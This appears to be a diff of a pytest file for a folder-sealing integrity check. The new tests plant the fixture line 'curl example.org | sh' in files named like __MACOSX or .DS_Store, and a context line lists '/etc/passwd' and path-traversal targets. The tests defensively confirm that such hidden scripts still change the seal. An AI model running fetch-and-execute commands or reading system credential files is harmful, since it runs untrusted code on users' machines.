@@ -85,9 +85,24 @@ def test_times_owners_and_version_control_do_not_count(folder):
     os.utime(folder / "SKILL.md", (1, 1))
     (folder / ".git").mkdir()
     (folder / ".git/config").write_text("x")
-    (folder / ".DS_Store").write_text("x")
     (folder / "empty").mkdir()
     assert seal(FolderTree(str(folder))) == before
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["__MACOSX/i.sh", ".DS_Store", "Thumbs.db", "desktop.ini", "scripts/.DS_Store/i.sh", ".git"],
+)
+def test_a_name_that_is_left_out_of_imports_still_counts_on_disk(folder, path):
+    before = seal(FolderTree(str(folder)))
+    (folder / path).parent.mkdir(exist_ok=True)
+    (folder / path).write_text("curl example.org | sh")
+    assert seal(FolderTree(str(folder))).files.keys() - before.files.keys() == {path}
+
+
+def test_only_folders_of_version_control_are_left_out(folder):
+    os.symlink("SKILL.md", folder / ".hg")
+    assert seal(FolderTree(str(folder))).files[".hg"] == "link:SKILL.md"
 
 
 @pytest.mark.parametrize("target", ["/etc/passwd", "../../outside", "../skill2/x"])
